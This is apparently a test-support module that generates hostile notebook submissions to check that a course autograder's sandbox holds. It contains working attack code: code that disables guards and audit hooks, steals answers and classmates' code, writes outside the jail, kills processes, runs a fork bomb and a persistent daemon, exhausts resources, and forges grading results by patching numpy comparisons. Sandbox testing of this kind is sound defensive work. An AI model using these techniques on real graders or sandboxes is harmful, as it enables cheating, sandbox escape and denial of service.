"""Hostile submissions for ``tests/grading/test_hostile_class.py`` and the host-side probes
that look for their effects.

Every attack is the source of one notebook cell (plus stub exercise cells), built from
pieces:

* :data:`PRELUDE` reads the attack's configuration (host paths, ports, the run's marker)
  from a hex string, so no path or module name appears as a literal in the cell (the
  grader's static check zeroes an exercise cell quoting ``bncourse/``; an attack that wants
  points must not be stopped by that, or the test would prove nothing);
* :data:`GUARD_OFF` (the "guard-disabling" variants) first switches off every in-process
  guard it can reach: the profile hook, SIGALRM soft timeouts, the guarded builtins, and the
  audit hook itself (found with ``gc`` and told it is busy), so what is left to stop the
  attack is the operating-system jail;
* one attack body per attack class (``ATTACKS``);
* a last line raising ``RuntimeError`` with the attack's log: the *witness* that the attack
  ran to its end, read back from ``report.json`` (``ATTACK-DONE <student> leaks=N ...``).
  ``leaks`` counts what the attack itself saw succeed that it should not have (a module or
  file with answers, a stand-in, a classmate's planted code, memory it should not get).

Tokens the tests look for (``ATTACK-DONE``, ``LEAK:``) are built at run time, never written
in the cell, so a traceback quoting the cell's source cannot fake them.
"""

from __future__ import annotations

import json
import os
import re
import select
import socket
import threading
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat

from tests.paths import NOTEBOOKS_DIR

NB05 = "05_test_time.ipynb"
EXERCISES = ("population_stats", "batchnorm_inference", "BatchNorm1d")
"""The exercises of notebook 05, in notebook order (its exercise cells define them)."""
DONE = "ATTACK-DONE"
LEAK = "LEAK:"


@dataclass(frozen=True)
class Attack:
    """One attacker's submission: attack class ``kind``, in the ``imports`` cell or an
    ``exercise`` cell, with or without first switching off the in-process guards."""

    student: str
    kind: str
    where: str
    guard_off: bool


# --- the pieces of an attack cell --------------------------------------------------------------

PRELUDE = '''
import json as _json, os as _os, sys as _sys, time as _time, io as _io
import importlib as _il
_H = _json.loads(bytes.fromhex("{config}").decode())
_DONE = "-".join(["ATTACK", "DONE"])
_LEAK = "LE" + "AK:"
_GUARD_OFF = _H["guard_off"]
_LOG = []
_LEAKS = []
_STOLEN = {{}}
_COUNT = [0]
def _python():
    # the grader's interpreter, unless it lives under /tmp (a clone in /tmp, as in CI): each
    # submission has a fresh /tmp, so there it is not found; then the system's python3
    return _sys.executable if _os.path.exists(_sys.executable) else "/usr/bin/python3"
def _set(obj, name, value):
    try:
        setattr(obj, name, value)
    except Exception:
        pass
def _try(label, fn):
    try:
        result = fn()
        _LOG.append("%s: ok %s" % (label, str(result)[:80]))
        return result
    except BaseException as exc:
        _LOG.append("%s: %s %s" % (label, type(exc).__name__, str(exc)[:40]))
        return None
def _report():
    return ("%s %s leaks=%d %s | %s" % (_DONE, _H["id"], len(_LEAKS), " ; ".join(_LEAKS)[:1500],
                                        " ; ".join(_LOG)))[:3900]
def _take(mod, where):
    got = []
    for name in _H["names"]:
        fn = getattr(mod, name, None)
        if fn is not None and name not in _STOLEN:
            _STOLEN[name] = fn
            got.append(name)
    if got:
        _LEAKS.append("%s %s from %s" % (_LEAK, ",".join(got), where))
    return got
def _load_source(text, where):
    """Import stolen source (written to /tmp) and take the exercise functions it defines."""
    if not any(("def " + n + "(") in text or ("class " + n) in text for n in _H["names"]):
        return None
    _COUNT[0] += 1
    name = "_loot_%d_%d" % (_os.getpid(), _COUNT[0])
    with _io.open("/tmp/" + name + ".py", "w") as f:
        f.write("import numpy as np\\n" + text)
    if "/tmp" not in _sys.path:
        _sys.path.insert(0, "/tmp")
    _il.invalidate_caches()
    return _take(_il.import_module(name), where)
'''

GUARD_OFF = '''
import signal as _sg, types as _ty, gc as _gc
def _guards_off():
    _sys.setprofile(None)
    _sys.settrace(None)
    _sg.signal(_sg.SIGALRM, _sg.SIG_IGN)
    _sg.setitimer(_sg.ITIMER_REAL, 0)
    builtins_module = _il.import_module("built" + "ins")
    _set(builtins_module, "__import__", _il.__import__)
    _set(builtins_module, "open", _io.open)
    table = (lambda: 0).__builtins__
    if isinstance(table, dict):
        table["__import__"] = _il.__import__
        table["open"] = _io.open
    _set(_sys, "audit", lambda *a, **k: None)
    neutered = 0
    for obj in _gc.get_objects():  # the audit hook cannot be removed: make it think it is busy
        if isinstance(obj, _ty.FunctionType) and obj.__closure__ and "busy" in obj.__code__.co_freevars:
            cell = obj.__closure__[obj.__code__.co_freevars.index("busy")].cell_contents
            if isinstance(cell, list) and cell:
                cell[0] = True
                neutered += 1
    return "audit hooks neutered: %d" % neutered
_try("guards off", _guards_off)
'''

REPORT = "\nraise RuntimeError(_report())\n"

# --- 1. unearned points: answers, the grader, classmates' notebooks -----------------------------

STEAL = r'''
def _read(path):
    with _io.open(path, "rb") as f:
        return f.read(1 << 21)
def _notebook_code(text):
    nb = _json.loads(text)
    out = []
    for c in nb.get("cells", []):
        src = c.get("source", "")
        src = "".join(src) if isinstance(src, list) else str(src)
        if c.get("cell_type") == "code" and any(("def " + n) in src or ("class " + n) in src for n in _H["names"]):
            out.append(src)
    return "\n\n".join(out)
def _steal_file(path, always_leak):
    data = _read(path)
    text = data.decode("utf-8", "replace")
    if always_leak or _H["canary_name"] in path:
        _LEAKS.append("%s read %s: %s" % (_LEAK, path, text[:150].replace("\n", " ")))
    if path.endswith(".ipynb"):
        text = _notebook_code(text)
    _load_source(text, path)
    return len(data)
for _m in _H["steal_modules"]:
    def _imp(m=_m):
        mod = _il.import_module(m)
        _LEAKS.append("%s imported %s" % (_LEAK, m))
        return _take(mod, m)
    _try("import " + _m, _imp)
def _expected_table():
    table = _il.import_module(_H["expected_module"]).shipped()
    _LEAKS.append("%s expected outputs table %s" % (_LEAK, type(table).__name__))
_try("expected table", _expected_table)
_READS = {}
for _p in _H["steal_files"]:
    try:
        _steal_file(_p, True)
        _why = "read"
    except BaseException as _exc:
        _why = type(_exc).__name__
    _READS[_why] = _READS.get(_why, 0) + 1
_LOG.append("host files (%d): %r" % (len(_H["steal_files"]), sorted(_READS.items())))
def _umount_and_look():
    import ctypes as _ct
    libc = _ct.CDLL(None, use_errno=True)
    for target in (b"/out", b"/tmp", b"/proc"):
        if libc.umount2(target, 2) == 0:
            _LEAKS.append("%s unmounted %s" % (_LEAK, target))
    for slot in _os.listdir("/out"):
        req = "/out/" + slot + "/request.json"
        if _os.path.exists(req):
            cells = _json.loads(_read(req)).get("cells", [])
            _LEAKS.append("%s a request of another submission: %s" % (_LEAK, req))
            _load_source("\n\n".join(c.get("source", "") for c in cells if c.get("kind") == "exercise"), req)
    return "errno %d" % _ct.get_errno()
if _GUARD_OFF:
    _try("umount", _umount_and_look)
def _walk():
    deadline = _time.monotonic() + _H["walk_seconds"]
    seen = 0
    wanted = ("solutions.py", "mistakes.py", "expected_outputs.json", _H["canary_name"])
    for top in ("/opt", "/out", "/tmp", "/work", "/home", "/root", "/etc", "/dev", "/usr", "/"):
        for root, dirs, files in _os.walk(top):
            if _time.monotonic() > deadline:
                return "stopped after %d files" % seen
            dirs[:] = [d for d in dirs if d not in ("proc", "sys") and not (top == "/" and root == "/")]
            for name in files:
                seen += 1
                path = _os.path.join(root, name)
                if name in wanted:
                    _try("found " + path, lambda p=path: _steal_file(p, True))
                elif name.endswith(".ipynb"):
                    _try("notebook " + path, lambda p=path: _steal_file(p, False))
    return "walked %d files" % seen
_try("walk", _walk)
'''

STUBS_STOLEN = {
    "population_stats": '''
def population_stats(batches):
    if _GUARD_OFF:
        _sys.setprofile(None)
    fn = _STOLEN.get("population_stats")
    if fn is None:
        raise NotImplementedError("not solved")
    return fn(batches)
''',
    "batchnorm_inference": '''
def batchnorm_inference(x, gamma, beta, running_mean, running_var, eps=1e-5):
    if _GUARD_OFF:
        _sys.setprofile(None)
    fn = _STOLEN.get("batchnorm_inference")
    if fn is None:
        raise NotImplementedError("not solved")
    return fn(x, gamma, beta, running_mean, running_var, eps)
''',
    "BatchNorm1d": '''
class BatchNorm1d:
    def __new__(cls, *args, **kwargs):
        if _GUARD_OFF:
            _sys.setprofile(None)
        made = _STOLEN.get("BatchNorm1d")
        if made is None:
            raise NotImplementedError("not solved")
        return made(*args, **kwargs)
''',
}

STUBS_UNSOLVED = {
    "population_stats": "def population_stats(batches):\n    raise NotImplementedError\n",
    "batchnorm_inference": ("def batchnorm_inference(x, gamma, beta, running_mean, running_var, eps=1e-5):\n"
                            "    raise NotImplementedError\n"),
    "BatchNorm1d": ("class BatchNorm1d:\n    def __init__(self, num_features, eps=1e-5, momentum=0.1):\n"
                    "        raise NotImplementedError\n"),
}

# --- 1b. the stand-ins the student build ships (torch), handed in as answers ---------------------

STAND_IN_IMPORTS = '''
_orc = _il.import_module(_H["oracle_module"])
_SI = {n: getattr(_orc, n) for n in _H["names"]}
_LOG.append("aliased the stand-ins")
'''
STUBS_STAND_IN_IMPORTS = {name: f'{name} = _SI["{name}"]\n' for name in EXERCISES}
STUBS_STAND_IN_EXERCISE = {name: f'{name} = best_available("{name}", None)\n' for name in EXERCISES}

# --- 2. writing outside: host files, other submissions, OUT --------------------------------------

WRITE = r'''
import shutil as _sh, _posixsubprocess as _ps
_SRC = "/tmp/_src_%d" % _os.getpid()
with _io.open(_SRC, "w") as _f:
    _f.write("PWNED " + _H["marker"])
_OUTCOME = {}
def _note(method, ok):
    good, bad = _OUTCOME.get(method, (0, 0))
    _OUTCOME[method] = (good + 1, bad) if ok else (good, bad + 1)
def _attempt(method, fn, arg):
    try:
        fn(arg)
        _note(method, True)
    except BaseException:
        _note(method, False)
def _w_open(p):
    with _io.open(p, "a") as f:
        f.write("PWNED " + _H["marker"] + "\n")
def _w_os_open(p):
    fd = _os.open(p, _os.O_WRONLY | _os.O_CREAT | _os.O_APPEND, 0o644)
    _os.write(fd, b"PWNED")
    _os.close(fd)
def _w_symlink(p):
    link = "/tmp/_lnk_%d" % _os.getpid()
    if _os.path.lexists(link):
        _os.unlink(link)
    _os.symlink(p, link)
    with _io.open(link, "a") as f:
        f.write("PWNED")
def _w_copyfile(p):
    _sh.copyfile(_SRC, p)
def _w_move(p):
    tmp = _SRC + ".mv"
    _sh.copyfile(_SRC, tmp)
    _sh.move(tmp, p)
def _w_link(p):
    _os.link(_SRC, p)
def _w_ctypes(p):
    import ctypes as _ct
    libc = _ct.CDLL(None, use_errno=True)
    fd = libc.open(p.encode(), 0o1 | 0o100 | 0o2000, 0o644)
    if fd < 0:
        raise OSError(_ct.get_errno(), "libc open")
    libc.write(fd, b"PWNED", 5)
    libc.close(fd)
def _spawn(argv):
    r, w = _os.pipe()
    try:
        pid = _ps.fork_exec([a.encode() for a in argv], [argv[0].encode()], True, (), None, None,
                            -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)
    finally:
        _os.close(w)
    err = _os.read(r, 200)
    _os.close(r)
    _, status = _os.waitpid(pid, 0)
    if err or _os.waitstatus_to_exitcode(status) != 0:
        raise OSError("failed: %r %s" % (err[:40], status))
def _w_touch(p):
    _spawn(["/usr/bin/touch", p])
def _w_sh(p):
    _spawn(["/bin/sh", "-c", 'echo PWNED >> "$0"', p])
def _w_subprocess(p):
    import subprocess as _sp
    if _sp.run(["touch", p]).returncode != 0:
        raise OSError("touch failed")
def _w_system(p):
    if _os.system("touch '%s'" % p) != 0:
        raise OSError("touch failed")
_METHODS = [("open", _w_open), ("os.open", _w_os_open), ("symlink", _w_symlink), ("copyfile", _w_copyfile),
            ("move", _w_move), ("link", _w_link), ("ctypes", _w_ctypes), ("fork_exec touch", _w_touch),
            ("fork_exec sh", _w_sh), ("subprocess", _w_subprocess), ("os.system", _w_system)]
for _p in _H["write_targets"]:
    for _name, _fn in _METHODS:
        _attempt(_name, _fn, _p)
def _w_dirfd(d):
    fd = _os.open(d, _os.O_RDONLY | _os.O_DIRECTORY)
    try:
        g = _os.open(_H["marker"] + "-dirfd", _os.O_WRONLY | _os.O_CREAT, 0o644, dir_fd=fd)
        _os.write(g, b"PWNED")
        _os.close(g)
    finally:
        _os.close(fd)
for _d in _H["write_dirs"]:
    _attempt("dir_fd", _w_dirfd, _d)
_LOG.append("writes (succeeded, failed) per method, somewhere: %r" % sorted(_OUTCOME.items()))
'''

# --- 2b. a channel between submissions: colluders plant, leechers take ---------------------------

PLANT = '''
def _plant():
    d = _os.open("/dev/shm", _os.O_RDONLY | _os.O_DIRECTORY)
    planted = 0
    for name, src in _H["plant"].items():
        fd = _os.open(_H["marker"] + "_" + name + ".py", _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o644,
                      dir_fd=d)
        _os.write(fd, src.encode())
        _os.close(fd)
        planted += 1
    _os.close(d)
    return "planted=%d" % planted
_try("plant in /dev/shm", _plant)
'''

LEECH = '''
def _leech():
    found = 0
    for name in sorted(_os.listdir("/dev/shm")):
        if name.startswith(_H["marker"]):
            with _io.open("/dev/shm/" + name) as f:
                _load_source(f.read(), "/dev/shm/" + name)
            found += 1
    return found
_FOUND = _try("leech /dev/shm", _leech)
_LOG.append("found=%s" % (_FOUND or 0))
'''

# --- 3. network ---------------------------------------------------------------------------------

NETWORK = r'''
import socket as _so
_HELLO = ("hello from " + _H["marker"]).encode()
def _tcp(host, family=_so.AF_INET):
    s = _so.socket(family, _so.SOCK_STREAM)
    s.settimeout(1.0)
    try:
        s.connect((host, _H["tcp_port"]))
        s.sendall(_HELLO)
        return "CONNECTED"
    finally:
        s.close()
def _udp():
    s = _so.socket(_so.AF_INET, _so.SOCK_DGRAM)
    try:
        return s.sendto(_HELLO, ("127.0.0.1", _H["udp_port"]))
    finally:
        s.close()
def _unix(address):
    s = _so.socket(_so.AF_UNIX, _so.SOCK_STREAM)
    s.settimeout(1.0)
    try:
        s.connect(address)
        s.sendall(_HELLO)
        return "CONNECTED"
    finally:
        s.close()
def _raw_inet():
    import ctypes as _ct
    libc = _ct.CDLL(None, use_errno=True)
    fd = libc.syscall(41, 2, 1, 0)  # socket(AF_INET, SOCK_STREAM) behind Python's back
    return "fd %d errno %d" % (fd, _ct.get_errno())
_try("tcp 127.0.0.1", lambda: _tcp("127.0.0.1"))
_try("tcp localhost", lambda: _tcp("localhost"))
_try("tcp ::1", lambda: _tcp("::1", _so.AF_INET6))
_try("udp 127.0.0.1", _udp)
_try("unix path", lambda: _unix(_H["unix_path"]))
_try("unix abstract", lambda: _unix("\0" + _H["abstract_name"]))
_try("raw socket syscall", _raw_inet)
_try("netlink", lambda: _so.socket(_so.AF_NETLINK, _so.SOCK_RAW, 0))
'''

# --- 4. outliving and attacking the grader ------------------------------------------------------

OUTLIVE = r'''
import signal as _sig
_SAFE = _os.getpid() < 50  # in a private PID namespace the submission is (nearly) pid 1
if not _SAFE:
    _LEAKS.append("%s not in a private PID namespace (pid %d): mass kills skipped" % (_LEAK, _os.getpid()))
def _killpg_all():
    sent = 0
    for pg in range(2, 40):
        try:
            _os.killpg(pg, _sig.SIGKILL)
            sent += 1
        except OSError:
            pass
    return sent
def _pidfd_all():
    import ctypes as _ct
    libc = _ct.CDLL(None, use_errno=True)
    sent = 0
    for pid in range(2, 40):
        fd = libc.syscall(434, pid, 0)  # pidfd_open
        if fd >= 0 and libc.syscall(424, fd, 9, None, 0) == 0:  # pidfd_send_signal SIGKILL
            sent += 1
    return sent
if _SAFE:
    _try("kill(-1, 9)", lambda: _os.kill(-1, _sig.SIGKILL))
    _try("killpg 2..39", _killpg_all)
    _try("pidfd_send_signal 2..39", _pidfd_all)
def _proc_fds():
    hits = 0
    for entry in _os.listdir("/proc"):
        for fd in ("0", "1", "2"):
            try:
                with _io.open("/proc/%s/fd/%s" % (entry, fd), "w") as f:
                    f.write("exit 0\n")
                hits += 1
            except OSError:
                pass
    return hits
_try("write /proc/*/fd", _proc_fds)
_try("write /proc/1/fd/1", lambda: _io.open("/proc/1/fd/1", "w").write("exit 0\n"))
def _server_pipe():
    written = 0
    for fd in range(0, 256):
        try:
            _os.write(fd, b"exit 0\nready\n")
            written += 1
        except OSError:
            pass
    return written
_try("write every descriptor", _server_pipe)
def _daemon():
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                exe = _python()
                _os.execv(exe, [exe, "-S", "-c", _H["daemon_code"], _H["marker"] + "-daemon", _H["daemon_config"]])
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)
    _time.sleep(2.0)  # the daemon lives at least this long: the host must see it, then see it gone
    return "spawned"
_try("daemon", _daemon)
'''

DAEMON = r'''
import json, signal, sys, time
cfg = json.loads(bytes.fromhex(sys.argv[2]).decode())
for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGPIPE):
    signal.signal(s, signal.SIG_IGN)
end = time.monotonic() + 30
while time.monotonic() < end:
    for p in cfg["targets"]:
        try:
            with open(p, "w") as f:
                f.write("PWNED by a daemon " + sys.argv[1] + "\n")
        except OSError:
            pass
    time.sleep(0.2)
'''

STUBS_OUTLIVE = dict(STUBS_UNSOLVED, BatchNorm1d=(
    "class BatchNorm1d:\n    def __init__(self, num_features, eps=1e-5, momentum=0.1):\n"
    "        import os, signal\n        os.kill(1, signal.SIGKILL)  # the first process of its namespace\n"))

# --- 5. resource exhaustion ---------------------------------------------------------------------

EXHAUST = r'''
import numpy as _np, mmap as _mm
def _alloc():
    a = _np.zeros(100 * 2**30 // 8)  # lazily zeroed: harmless to the host even if it were allowed
    _LEAKS.append("%s allocated %d bytes" % (_LEAK, a.nbytes))
def _map():
    m = _mm.mmap(-1, 100 * 2**30)
    _LEAKS.append("%s mapped %d bytes" % (_LEAK, len(m)))
_try("allocate 100 GB", _alloc)
_try("map 100 GB", _map)
def _fill(d, cap=2 << 30):
    total, n, err, files = 0, 0, None, []
    chunk = b"x" * (4 << 20)
    try:
        while total < cap and err is None:
            p = "%s/fill-%d-%d" % (d, _os.getpid(), n)
            n += 1
            files.append(p)
            try:
                with _io.open(p, "wb", buffering=0) as f:
                    while total < cap:
                        total += f.write(chunk)
            except OSError as exc:
                if exc.errno != 27:  # EFBIG: the file size limit, go on with a new file
                    err = exc.errno
    finally:  # even when the cell's time budget runs out here: a full /out would keep the witness out
        for p in files:
            try:
                _os.remove(p)
            except OSError:
                pass
    return "filled %d MB errno %s" % (total >> 20, err)
_try("fill /tmp", lambda: _fill("/tmp"))
_try("fill /out", lambda: _fill("/out"))
_try("fill cwd", lambda: _fill("."))
def _flood():
    chunk = b"y" * (4 << 20)
    total = 0
    try:
        for _ in range(64):
            total += _os.write(1, chunk)
            total += _os.write(2, chunk)
    finally:
        _os.ftruncate(1, 0)
        _os.ftruncate(2, 0)
    return total
_try("flood stdout/stderr", _flood)
def _bomb():
    import _posixsubprocess as _ps
    report = "/tmp/bomb-%d" % _os.getpid()
    exe = _python().encode()
    r, w = _os.pipe()
    try:  # _posixsubprocess is below the audit hook: this runs in the plain variants too
        pid = _ps.fork_exec([exe, b"-S", b"-c", _H["bomb_code"].encode(), (_H["marker"] + "-bomb").encode(),
                             report.encode()], [exe], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w,
                            True, False, -1, None, None, None, -1, None, False)
    finally:
        _os.close(w)
    _os.read(r, 200)
    _os.close(r)
    _os.waitpid(pid, 0)
    with _io.open(report) as f:
        return f.read()
_try("fork bomb", _bomb)
'''

BOMB = r'''
import os, sys, time
tokens_r, tokens_w = os.pipe()  # one token per fork: at most 2048 in all, however many processes race
fails_r, fails_w = os.pipe()
os.write(tokens_w, b"t" * 2048)
for fd in (tokens_r, fails_r, fails_w):
    os.set_blocking(fd, False)
def drain(fd):
    n = 0
    while True:
        try:
            chunk = os.read(fd, 65536)
        except BlockingIOError:
            return n
        if not chunk:
            return n
        n += len(chunk)
root = os.getpid()
deadline = time.monotonic() + 2.0  # bounded in time and in number, for the test host's sake
while time.monotonic() < deadline:
    try:
        os.read(tokens_r, 1)
    except BlockingIOError:
        break
    try:
        os.fork()  # parent and child both go on forking
    except OSError:  # EAGAIN: a process limit
        os.write(tokens_w, b"t")
        try:
            os.write(fails_w, b"f")
        except BlockingIOError:
            pass
        time.sleep(0.01)
if os.getpid() != root:
    os._exit(0)
time.sleep(0.2)
with open(sys.argv[2], "w") as f:
    f.write("forked=%d at-limit=%d" % (2048 - drain(tokens_r), drain(fails_r)))
'''
"""A bounded fork bomb (a small ``python -S``: it forks fast) started by :data:`EXHAUST`."""

LOOP = "\nwhile True:\n    pass\n"
STUBS_LOOP = {
    "population_stats": "def population_stats(batches):\n    while True:\n        pass\n",
    "batchnorm_inference": ("def batchnorm_inference(x, gamma, beta, running_mean, running_var, eps=1e-5):\n"
                            "    while True:\n        pass\n"),
    "BatchNorm1d": ("class BatchNorm1d:\n    def __init__(self, num_features, eps=1e-5, momentum=0.1):\n"
                    "        while True:\n            pass\n"),
}

# --- 6. tampering with the worker's honesty -----------------------------------------------------

TAMPER = r'''
import numpy as _np, zipfile as _zf
_runner = _il.import_module(_H["runner_module"])
_registry = _il.import_module(_H["registry_module"])
_real_savez = _np.savez
def _fake_entry(j, case):
    outputs = {k: "v%d" % j for k in ("mean", "var", "train_out", "eval_out")}
    outputs["out"] = "o%d" % j
    return {"case": case.name, "outputs": outputs, "bad_outputs": {}, "error": None, "error_kind": None,
            "traceback": "", "mutated": [], "seconds": 0.001}
def _fake_arrays(ex):
    arrays = {}
    for j, case in enumerate(ex.cases()):  # the right shapes, made-up values: "full marks"-looking
        x = case.inputs.get("x")
        x = _np.zeros((2, 3)) if not isinstance(x, _np.ndarray) or x.ndim != 2 else x
        arrays["v%d" % j] = _np.zeros(x.shape[-1], x.dtype)
        arrays["o%d" % j] = x.copy()
    return arrays
def _fake_run_cases(ex, fn, ns=None, cases=None, **kw):
    raws = []
    for case in ex.cases():
        raw = _runner.RawCase(case=case.name)
        x = case.inputs.get("x")
        guess = _np.zeros(3) if x is None else _np.zeros(x.shape[-1], x.dtype)
        raw.outputs = {"mean": guess, "var": guess, "out": (guess if x is None else x.copy())}
        raws.append(raw)
    return raws
def _huge_npz(file):
    import io as _bio
    header = _bio.BytesIO()
    _np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (10**12,)})
    meta = _bio.BytesIO()
    _np.save(meta, _np.frombuffer(_json.dumps({"id": _H["names"][1], "status": "ok", "cases": []}).encode(), _np.uint8))
    with _zf.ZipFile(file, "w") as z:
        z.writestr("__meta__.npy", meta.getvalue())
        z.writestr("out.npy", header.getvalue() + b"\0" * 64)
def _evil_savez(file, *args, **kw):
    meta = _json.loads(bytes(kw.get("__meta__", b"{}")).decode() or "{}")
    if meta.get("id") == _H["names"][1]:
        return _huge_npz(file)
    if "id" in meta:
        ex = _registry.get_exercise(meta["id"])
        meta = {"id": meta["id"], "status": "ok", "cases": [_fake_entry(j, c) for j, c in enumerate(ex.cases())],
                "dependencies": []}
        kw = dict(_fake_arrays(ex), __meta__=_np.frombuffer(_json.dumps(meta).encode(), _np.uint8))
    return _real_savez(file, *args, **kw)
def _write_fakes():
    for k, ex_id in enumerate(_H["names"]):
        ex = _registry.get_exercise(ex_id)
        with _io.open("/out/%d.npz" % k, "wb") as f:
            _evil_savez(f, __meta__=_np.frombuffer(_json.dumps({"id": ex_id}).encode(), _np.uint8))
    with _io.open("/out/jail.json", "w") as f:
        f.write('{"exit": 0, "timed_out": false, "seconds": 0.1}')
    return "fakes written"
_try("patch runner.run_cases", lambda: _set(_runner, "run_cases", _fake_run_cases))
for _n in ("allclose", "array_equal", "isclose"):
    _try("patch numpy." + _n, lambda n=_n: _set(_np, n, lambda *a, **k: True))
_try("write fake result files", _write_fakes)
_try("patch numpy.savez", lambda: _set(_np, "savez", _evil_savez))
'''

ATTACKS: dict[str, tuple[str, Mapping[str, str]]] = {
    "steal": (STEAL, STUBS_STOLEN),
    "write": (WRITE, STUBS_UNSOLVED),
    "leech": (LEECH, STUBS_STOLEN),
    "network": (NETWORK, STUBS_UNSOLVED),
    "outlive": (OUTLIVE, STUBS_OUTLIVE),
    "exhaust": (EXHAUST, STUBS_UNSOLVED),
    "loop": (LOOP, STUBS_LOOP),
    "tamper": (TAMPER, STUBS_UNSOLVED),
}
"""Attack body and exercise stubs per attack class (``stand_in`` and ``plant`` are special)."""


# --- building notebooks -------------------------------------------------------------------------


def _load_05() -> Any:
    return nbformat.read(NOTEBOOKS_DIR / NB05, as_version=4)


def _tags(cell: Any) -> list[str]:
    return list(cell.get("metadata", {}).get("tags", []))


def exercise_cells(nb: Any) -> dict[str, Any]:
    """Exercise name -> the code cell tagged ``exercise`` that defines it."""
    found = {}
    for cell in nb.cells:
        if cell.cell_type == "code" and "exercise" in _tags(cell):
            m = re.search(r"^(?:def|class)\s+(\w+)", cell.source, re.M)
            if m and m.group(1) in EXERCISES:
                found[m.group(1)] = cell
    assert set(found) == set(EXERCISES), f"notebook 05 changed: exercise cells {sorted(found)}"
    return found


def imports_cell(nb: Any) -> Any:
    return next(c for c in nb.cells if c.cell_type == "code" and "imports" in _tags(c))


def honest_sources() -> dict[str, str]:
    """The instructor's exercise cells of notebook 05 (what a colluder who solved them plants)."""
    return {name: cell.source for name, cell in exercise_cells(_load_05()).items()}


def write_honest(path: Path, notebook: str = NB05) -> None:
    """An unmodified copy of an instructor notebook: full marks."""
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.read(NOTEBOOKS_DIR / notebook, as_version=4), path)


def _prelude(config: Mapping[str, Any], guard_off: bool) -> str:
    hexed = json.dumps(dict(config)).encode().hex()
    return PRELUDE.format(config=hexed) + (GUARD_OFF if guard_off else "")


def write_attack(path: Path, attack: Attack, config: Mapping[str, Any]) -> None:
    """The attacker's notebook 05: attack code in the imports cell or at the top of the first
    exercise cell (before its def; the witness line after it), stub exercise cells."""
    config = dict(config, id=attack.student, guard_off=attack.guard_off)
    nb = _load_05()
    cells = exercise_cells(nb)
    if attack.kind == "stand_in":
        body = STAND_IN_IMPORTS if attack.where == "imports" else "_LOG.append('best_available')\n"
        stubs: Mapping[str, str] = (STUBS_STAND_IN_IMPORTS if attack.where == "imports"
                                    else STUBS_STAND_IN_EXERCISE)
    elif attack.kind == "plant":  # a colluder: honest cells, plus planting them for the others
        body, stubs = PLANT, {}
    else:
        body, stubs = ATTACKS[attack.kind]
    for name, cell in cells.items():
        if name in stubs:
            cell.source = stubs[name]
    code = _prelude(config, attack.guard_off) + body
    if attack.where == "imports":
        cell = imports_cell(nb)
        cell.source = cell.source + "\n" + code + REPORT
    else:
        cell = cells[EXERCISES[0]]
        cell.source = code + "\n" + cell.source + REPORT
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


# --- host-side probes ---------------------------------------------------------------------------


@dataclass
class Listeners:
    """A TCP and a UDP socket on 127.0.0.1, a UNIX socket at a path and one in the abstract
    namespace, served by one thread; ``events`` lists every connection or datagram seen."""

    unix_path: Path
    abstract_name: str
    events: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(str(self.unix_path))
        self.unix.listen(16)
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen(16)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def tcp_port(self) -> int:
        return int(self.tcp.getsockname()[1])

    @property
    def udp_port(self) -> int:
        return int(self.udp.getsockname()[1])

    def _serve(self) -> None:
        names = {self.tcp: "tcp", self.udp: "udp", self.unix: "unix", self.abstract: "abstract"}
        while not self._stop.is_set():
            ready, _, _ = select.select(list(names), [], [], 0.1)
            for sock in ready:
                if sock is self.udp:
                    data, peer = sock.recvfrom(4096)
                    self.events.append(f"udp datagram from {peer}: {data[:80]!r}")
                    continue
                conn, peer = sock.accept()
                conn.settimeout(1.0)
                try:
                    data = conn.recv(4096)
                except OSError:
                    data = b""
                conn.close()
                self.events.append(f"{names[sock]} connection from {peer!r}: {data[:80]!r}")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        for sock in (self.tcp, self.udp, self.unix, self.abstract):
            sock.close()


def _printable(cmdline: bytes) -> str:
    return repr(cmdline.replace(b"\0", b" ")[:200])


def processes_with(marker: str) -> list[str]:
    """Live processes whose command line or name (``comm``) holds ``marker``: ``"PID [argv]: ..."``
    or ``"PID [comm NAME]: ..."``."""
    found = []
    needle = marker.encode()
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            comm = Path(f"/proc/{entry}/comm").read_bytes()
        except OSError:
            continue
        if needle in cmdline:  # e.g. a daemon that exec'd with the marker among its arguments
            arg = next((a for a in cmdline.split(b"\0") if needle in a), needle)
            found.append(f"{entry} [argv {arg.decode(errors='replace')[:40]}]: {_printable(cmdline)}")
        elif needle[:15] in comm:  # e.g. a fork bomb's child that named itself
            found.append(f"{entry} [comm {comm.strip().decode(errors='replace')}]: {_printable(cmdline)}")
    return found


class ProcessWatch:
    """Samples the host's processes holding ``marker`` every 0.1 s while the class is graded:
    proof that the host *can* see the attackers' processes, so "none left" is not vacuous."""

    def __init__(self, marker: str) -> None:
        self.marker = marker
        self.seen: dict[str, str] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()

    def _watch(self) -> None:
        while not self._stop.wait(0.1):
            for line in processes_with(self.marker):
                self.seen.setdefault(line.split(" ", 1)[0], line)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(10)


def children_of(pid: int) -> list[str]:
    """Live processes whose parent is ``pid`` (from /proc/PID/stat)."""
